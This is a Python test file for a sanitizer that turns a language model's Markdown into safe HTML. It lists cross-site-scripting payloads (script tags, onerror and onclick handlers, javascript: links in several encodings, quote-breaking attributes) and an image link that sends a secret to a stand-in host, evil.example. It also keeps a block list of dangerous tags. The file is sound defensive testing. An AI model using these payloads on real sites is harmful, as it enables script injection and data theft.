"""Markdown of a model becomes HTML that cannot do harm."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gathering.notebook.markdown import to_html

_HARMFUL = {
    "script",
    "iframe",
    "img",
    "svg",
    "style",
    "link",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "meta",
}


class Found(HTMLParser):
    """Tags and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](https://evil.example/?q=secret)",
    "![a](javascript:alert(1))",
    "![a][1]\n\n[1]: https://evil.example/x.png",
    "<svg><script>alert(1)</script></svg>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "[a](//evil.example)",
    "[a](https://x.example 'onmouseover=alert(1)')",
    '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    "$<img src=x onerror=alert(1)>$",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    '```"onload="alert(1)\nx\n```',
    "| <b onclick=1>a</b> |\n|---|\n| <style>*{}</style> |",
    '<https://x.example/"onclick=alert(1)>',
]


def harmless(html: str) -> bool:
    found = Found(html)
    links = [value or "" for name, value in found.attributes if name in ("href", "src")]
    return (
        not _HARMFUL & set(found.tags)
        and not any(
            name.startswith("on") or (name == "style" and "url" in (value or ""))
            for name, value in found.attributes
        )
        and all(link.lower().startswith(("http://", "https://", "mailto:")) for link in links)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through(payload: str) -> None:
    """No script, no handler, no remote image, no other link than http, https and mailto."""
    assert harmless(to_html(payload))


@given(st.text(alphabet="<>[]()!\"'`$\\/=: \nahrefjscript", max_size=80))
def test_no_text_becomes_harmful(text: str) -> None:
    """Whatever a model writes, the HTML is harmless."""
    assert harmless(to_html(text))


def test_links_are_marked_and_images_become_links() -> None:
    """A link opens elsewhere without passing anything on; an image is only named."""
    html = to_html("[home](https://a.example) ![a cat](https://b.example/cat.png)")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert ">a cat</a>" in html


def test_formulas_are_left_to_the_page() -> None:
    """Underscores and backslashes of a formula are not Markdown's; dollars of prices are no formula."""
    html = to_html(r"$a_1 * b_2$ and \(x\_y\), for $5 and *not* $10")
    assert "$a_1 * b_2$" in html
    assert r"\(x\_y\)" in html
    assert "<em>not</em>" in html


def test_tables_and_lone_surrogates_are_rendered() -> None:
    """Tables are known; half a character does not break the page."""
    assert "<table>" in to_html("|a|b|\n|-|-|\n|1|2|")
    to_html("\ud800").encode()
